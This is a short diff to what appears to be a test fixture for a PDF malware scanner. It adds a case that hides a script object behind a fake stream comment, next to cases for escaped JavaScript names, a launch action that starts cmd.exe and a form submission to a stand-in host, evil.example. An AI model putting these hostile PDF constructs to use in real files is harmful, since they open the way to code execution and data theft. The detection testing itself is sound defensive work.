@@ -27,6 +27,7 @@ def pdfs() -> dict[str, tuple[str, bytes]]:
         "code with escaped letters": pdf(b"/OpenAction << /S /J#61va#53cript /J#53 (1) >>"),
         "code in a packed object": pdf(more=object_stream(runs)),
         "code for a page": pdf(b"/AA << /WC " + runs + b" >>"),
+        "code behind a word that begins a stream": pdf(more=b"%stream\n" + obj(runs) + b"%endstream\n"),
         "a program started": pdf(b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>"),
         "a form sent away": pdf(b"/OpenAction << /S /SubmitForm /F (http://evil.example) >>"),
         "a file inside": pdf(
